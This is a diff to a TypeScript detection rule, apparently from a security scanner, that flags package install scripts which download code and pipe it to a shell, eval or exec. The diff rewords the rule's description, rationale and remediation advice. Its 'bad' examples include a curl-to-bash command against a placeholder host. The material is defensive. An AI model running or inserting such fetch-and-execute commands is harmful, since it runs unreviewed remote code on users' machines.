@@ -18,15 +18,15 @@ export const installScriptRemoteCode = defineInstallRule(
     owaspMcp: ['MCP04:2025'],
     safeMcp: ['SAFE-T1002'],
     what:
-      'An npm install script, a `setup.py`, or a build backend downloads code and passes it to a shell, `eval`, or ' +
-      '`exec`. Reverse shells and encoded commands are reported too. The rule reads the text of the scripts and of ' +
-      'the files that they name, and does not run them.',
+      'An npm install script, a `setup.py`, or a build backend downloads code and passes it to a shell, `eval`, ' +
+      'or `exec`. Reverse shells and encoded commands are also reported. The rule reads the scripts and the ' +
+      'files that they reference, but does not run them.',
     why:
-      'The package does not contain the code that runs. The server can send other code to each machine, and no ' +
-      'review, lockfile, or digest covers it.',
+      'The code that runs is not part of the package. The server can send different code to each machine, and no ' +
+      'review, lockfile, or digest covers that code.',
     remediation:
-      'Do not install the package, or install it with `--ignore-scripts`. As the publisher, put the code into the ' +
-      'package, or download a fixed file and compare its digest.',
+      'Do not install the package, or install it with `--ignore-scripts`. If you publish this package, include ' +
+      'the code in it, or download a specific version of the file and verify its digest.',
     examples: {
       bad: [
         of('curl -s https://setup.example/run.sh | bash'),
